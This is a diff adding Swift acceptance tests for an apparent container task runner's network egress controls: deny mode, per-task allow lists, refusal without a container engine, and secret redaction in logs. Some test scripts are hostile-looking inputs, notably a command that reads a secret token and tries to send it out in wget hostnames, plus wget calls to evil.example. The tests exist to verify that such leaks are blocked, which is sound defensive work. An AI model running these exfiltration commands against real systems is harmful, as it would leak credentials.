@@ -122,16 +122,42 @@ extension Acceptance {
 
         @Test("deny: nothing is reached, and the timeline says what was tried", arguments: Engine.all)
         func denied(_ engine: Engine) async throws {
-            try await AcodeFixture.with("egress-deny-\(engine)", settings: ["workers.egress": "deny"]) { fixture in
-                try await fixture.withSupervisor(.of(engine)) { supervisor in
+            let secret = "Hidden-\(UUID().uuidString.prefix(8))"
+            let port = Loopback.freePort()
+            var options = PoolOptions()
+            options.flags += ["--listen", "127.0.0.1:\(port)"]
+            let settings: [String: JSONValue] = [
+                "workers.egress": "deny", "secrets": ["token": ["command": ["printf", .string(secret)]]],
+            ]
+            try await AcodeFixture.with("egress-deny-\(engine)", settings: settings) { fixture in
+                try await fixture.withSupervisor(.of(engine), options) { supervisor in
                     let container = try await supervisor.onlyContainer()
                     #expect(container["HostConfig"]["NetworkMode"] == "none")
+                    let worker = try #require(try await supervisor.workers().first?["id"].string)
+                    let security = try await fixture.acode("worker", "inspect", "--security", worker)
+                    #expect(security.code == 0, "\(security)")
+                    let way = security.lines.first { $0.hasPrefix("way out") } ?? ""
+                    #expect(way.components(separatedBy: "acode's proxy").count == 3, "\(security)")
                     let id = try await fixture.submitScript("wget -qO- http://example.org/ 2>&1")
                     let task = try await fixture.waitFor(id, state: "error")
                     #expect(
                         task["reason"].string?.contains("workers.egress refused it example.org:80") == true, "\(task)")
                     let denials = try await Self.denials(fixture, id)
                     #expect(denials == ["example.org:80 is not allowed by workers.egress"])
+
+                    // A name that is asked for can carry a secret out of the log as well as any text.
+                    let leak = try await fixture.submitScript(
+                        "s=$(cat $ACODE_SECRETS_DIR/token); wget -qO- http://$s.example/ 2>/dev/null;"
+                            + " wget -qO- http://$(echo $s | tr A-Z a-z).example/ 2>/dev/null; exit 3",
+                        ["--secret", "token"])
+                    try await fixture.waitFor(leak, state: "error")
+                    let told =
+                        try await fixture.json("task", "events", leak).encoded()
+                        + (try await fixture.acode("task", "show", leak).text)
+                        + (try await fixture.acode("task", "logs", leak).text) + supervisor.process.errorText
+                        + (try await Curl.get("http://127.0.0.1:\(port)/metrics").body)
+                    #expect(told.contains("[secret token].example:80 is not allowed"), "\(told)")
+                    #expect(!told.lowercased().contains(secret.lowercased()))
                 }
             }
         }
@@ -151,6 +177,99 @@ extension Acceptance {
                     #expect(run.lines.last == "acode: evil.example:80 is not allowed by workers.egress", "\(run)")
                     #expect(supervisor.process.errorText.contains("workers.egress is not enforced"))
                 }
+            }
+        }
+
+        @Test(
+            "without an engine nobody takes the place of containers with less network than this host",
+            arguments: [
+                ("workers.egress", "deny" as JSONValue), ("workers.docker.network", "none"),
+                ("workers.docker.network", "internal"),
+            ])
+        func noEngine(_ setting: String, _ value: JSONValue) async throws {
+            try await AcodeFixture.with("egress-no-engine", settings: [setting: value]) { fixture in
+                let start = ["worker", "start", "--engine-socket", "\(fixture.scratch)/none.sock"]
+                let refused = try await fixture.acode(start)
+                #expect(refused.code == 69, "\(refused)")
+                #expect(refused.errorText.contains("\(setting)"), "\(refused)")
+                #expect(refused.errorText.contains("workers.fallbackIgnoresNetwork"), "\(refused)")
+                let run = try await fixture.acode(
+                    ["run", "--engine-socket", "\(fixture.scratch)/none.sock", "--", "true"])
+                #expect(run.code == 69, "\(run)")
+                let allowed = try await fixture.acode(
+                    ["run", "--engine-socket", "\(fixture.scratch)/none.sock", "--", "true"],
+                    environment: ["ACODE_WORKERS_FALLBACK_IGNORES_NETWORK": "true"])
+                #expect(allowed.code == 0, "\(allowed)")
+            }
+        }
+
+        @Test("a task may ask for less than its pool permits, and for no more", arguments: Engine.all)
+        func narrowed(_ engine: Engine) async throws {
+            let (one, other) = (try Self.server(), try Self.server())
+            let host = try await Self.gateway()
+            let settings: [String: JSONValue] = ["workers.egress": ["allow": [.string("\(host):*"), "*.example.org"]]]
+            try await AcodeFixture.with("egress-own-\(engine)", settings: settings) { fixture in
+                try await fixture.withSupervisor(.of(engine)) { _ in
+                    let own = ["--egress", "\(host):\(one.port)", "--egress", "a.example.org"]
+                    let ask = "wget -qO- http://\(host):\(one.port)/; wget -qO- http://\(host):\(other.port)/"
+                    let run = try await fixture.submitScript(ask, own)
+                    let task = try await fixture.waitFor(run, state: "error")
+                    #expect(try await fixture.acode("task", "logs", run).text.contains("hello from the host\n"))
+                    #expect(
+                        try await Self.denials(fixture, run)
+                            == ["\(host):\(other.port) is an address that the task's egress does not list"])
+                    #expect(
+                        task["reason"].string?.contains("; the task's egress refused it \(host):") == true, "\(task)")
+                    #expect(other.connectionCount == 0)
+                    let page = try await fixture.acode("task", "show", run).text
+                    #expect(page.contains("\(host):\(one.port) a.example.org"), "\(page)")
+
+                    let denied = try await fixture.runScript(
+                        "wget -qO- http://\(host):\(one.port)/", ["--egress", "deny"])
+                    #expect(denied.code != 0)
+                    #expect(one.connectionCount == 1)
+
+                    let wider = try await fixture.acode(
+                        "task", "submit", "--egress", "a.example.org", "--egress", "b.example.com", "--", "true")
+                    #expect(wider.code == 64, "\(wider)")
+                    #expect(wider.errorText.contains("egress b.example.com is not within"), "\(wider)")
+                    #expect(wider.errorText.contains("which is \(host):* *.example.org"), "\(wider)")
+                    let file = try fixture.file(
+                        "tasks.yaml", "tasks:\n- {command: [\"true\"], egress: {allow: [b.example.com]}}\n")
+                    let inFile = try await fixture.acode("task", "submit", "--file", file)
+                    #expect(inFile.code == 78 && inFile.errorText.contains("tasks[0]"), "\(inFile)")
+                    let wrong = try await fixture.acode("task", "submit", "--egress", "http://a/", "--", "true")
+                    #expect(wrong.code == 64 && wrong.errorText.contains("--egress"), "\(wrong)")
+                }
+            }
+        }
+
+        @Test("in a pool without limits a task may be limited to what containers reach anyway", arguments: Engine.all)
+        func narrowedFromAll(_ engine: Engine) async throws {
+            let server = try Self.server()
+            let host = try await Self.gateway()
+            try await AcodeFixture.with("egress-own-all-\(engine)") { fixture in
+                try await fixture.withSupervisor(.of(engine)) { _ in
+                    let run = try await fixture.runScript(
+                        "ls /sys/class/net; wget -qO- http://\(host):\(server.port)/; wget -qO- http://evil.example/",
+                        ["--egress", "\(host):\(server.port)"])
+                    #expect(run.lines.prefix(2) == ["lo", "hello from the host"], "\(run)")
+                    #expect(run.code != 0)
+                    // The proxy is outside the container, whose own loopback is another.
+                    let inside = try await fixture.acode(
+                        "task", "submit", "--egress", "127.0.0.1:\(server.port)", "--", "true")
+                    #expect(inside.code == 64, "\(inside)")
+                    #expect(inside.errorText.contains("is an address of this host itself"), "\(inside)")
+                }
+                // A one-off pool is made for its task, with the user's own rights.
+                let socket = try engine.socket
+                let oneOff = try await fixture.acode(
+                    [
+                        "run", "--image", TestImage.busybox, "--engine-socket", socket, "--egress",
+                        "127.0.0.1:\(server.port)", "--", "sh", "-c",
+                        "printf 'GET http://127.0.0.1:\(server.port)/ HTTP/1.1\\r\\n\\r\\n' | nc 127.0.0.1 3128",
+                    ], within: .seconds(40))
+                #expect(oneOff.text.hasSuffix("\r\n\r\nhello from the host\n"), "\(oneOff)")
             }
         }
     }
